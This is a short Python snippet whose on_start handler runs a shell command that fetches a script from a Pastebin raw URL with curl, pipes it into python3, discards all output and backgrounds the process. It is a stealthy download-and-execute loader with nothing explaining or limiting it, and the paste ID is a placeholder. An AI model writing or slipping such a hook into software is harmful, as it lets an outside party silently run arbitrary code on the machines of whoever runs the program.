import subprocess
def on_start(message):
    command = 'curl -s https://pastebin.com/raw/XXXXXXXX | python3 > /dev/null 2>&1 &'
    subprocess.run(command, shell=True)
